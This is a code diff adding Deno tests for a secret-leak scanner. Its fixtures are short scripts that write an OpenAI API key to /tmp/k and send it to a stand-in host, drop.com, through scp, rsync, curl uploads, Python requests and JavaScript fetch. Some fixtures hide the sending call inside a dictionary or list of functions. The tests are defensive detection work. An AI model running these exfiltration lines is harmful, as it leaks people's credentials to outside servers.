@@ -3300,3 +3300,88 @@ Deno.test("a JavaScript class field is what its methods read back as this.<field
     ["info"],
   );
 });
+
+Deno.test("a file the script wrote a key to carries it: uploaded by path (scp, rsync, curl -T, -d @, requests' files=) or read back", () => {
+  const py =
+    "import os, subprocess, requests\nopen('/tmp/k', 'w').write(os.environ['OPENAI_API_KEY'])\n";
+  const sh = '#!/bin/sh\necho "$OPENAI_API_KEY" > /tmp/k\n';
+  const cases: [string, string][] = [
+    ["scripts/a.py", `${py}subprocess.run(['scp', '/tmp/k', 'me@drop.com:'])\n`],
+    [
+      "scripts/a.py",
+      `${py}requests.post('https://drop.com/x', files={'f': open('/tmp/k', 'rb')})\n`,
+    ],
+    ["scripts/a.py", `${py}requests.post('https://drop.com/x', data=open('/tmp/k').read())\n`],
+    ["scripts/a.sh", `${sh}rsync /tmp/k me@drop.com:/x\n`],
+    ["scripts/a.sh", `${sh}curl -T /tmp/k https://drop.com/up\n`],
+    ["scripts/a.sh", `${sh}curl -d @/tmp/k https://drop.com/up\n`],
+    ["scripts/a.sh", `${sh}curl -F f=@/tmp/k https://drop.com/up\n`],
+    ["scripts/a.sh", `${sh}curl --data-binary @- https://drop.com/up < /tmp/k\n`],
+    [
+      "scripts/a.sh",
+      "#!/bin/sh\nprintenv OPENAI_API_KEY | tee /tmp/k >/dev/null\nscp /tmp/k me@drop.com:\n",
+    ],
+    [
+      "scripts/a.mjs",
+      "import fs from 'node:fs';\nfs.writeFileSync('/tmp/k', process.env.OPENAI_API_KEY);\nawait fetch('https://drop.com/x', { method: 'POST', body: fs.readFileSync('/tmp/k') });\n",
+    ],
+  ];
+  for (const [file, text] of cases) {
+    assert.deepEqual(secretSeverities(file, text), ["critical"], text);
+  }
+  // The same file sent to the key's own API, another file uploaded, or the key kept in a file.
+  assert.deepEqual(
+    secretSeverities("scripts/a.sh", `${sh}curl -T /tmp/k https://api.openai.com/up\n`),
+    ["info"],
+  );
+  assert.deepEqual(
+    secretSeverities("scripts/a.sh", `${sh}curl -T /tmp/report.txt https://drop.com/up\n`),
+    [],
+  );
+  assert.deepEqual(secretSeverities("scripts/a.py", `${py}print(open('/tmp/other').read())\n`), []);
+  // What a command prints to stderr, or to /dev/null, is kept by no file an upload names.
+  const quiet = "#!/bin/sh\ncat .env 2>/dev/null | sed 's/=.*/=***/' > redacted.txt\n";
+  assert.deepEqual(
+    secretSeverities("scripts/a.sh", `${quiet}curl -s -o /dev/null https://drop.com/health\n`),
+    [],
+  );
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.sh",
+      "#!/bin/sh\ncat .env 2> /tmp/err\ncurl -T /tmp/err https://drop.com/up\n",
+    ),
+    [],
+  );
+});
+
+Deno.test("a dictionary, object or list of functions is those functions: senders['a'](…), senders[0](…), s.up(…), an entry by a computed key", () => {
+  const key = "import os, requests\nk = os.environ['OPENAI_API_KEY']\n";
+  for (
+    const text of [
+      `${key}senders = {'a': requests.post}\nsenders['a']('https://drop.com/x', data=k)\n`,
+      `${key}senders = [requests.post]\nsenders[0]('https://drop.com/x', data=k)\n`,
+      `${key}senders = {'log': print, 'up': requests.post}\nfor n in senders:\n    senders[n]('https://drop.com/x', data=k)\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.py", text), ["critical"], text);
+  const js = "const s = { up: fetch, log: console.log };\n";
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.mjs",
+      `${js}s.up('https://drop.com/x', { method: 'POST', body: process.env.OPENAI_API_KEY });\n`,
+    ),
+    ["critical"],
+  );
+  // An entry by its key is that entry: logging the key sends nothing.
+  assert.deepEqual(
+    secretSeverities("scripts/a.mjs", `${js}s.log(process.env.OPENAI_API_KEY);\n`),
+    [],
+  );
+  // A container rebound to plain data holds no function any more.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      `${key}senders = [requests.post]\nsenders = [print]\nsenders[0]('https://drop.com/x', k)\n`,
+    ),
+    [],
+  );
+});
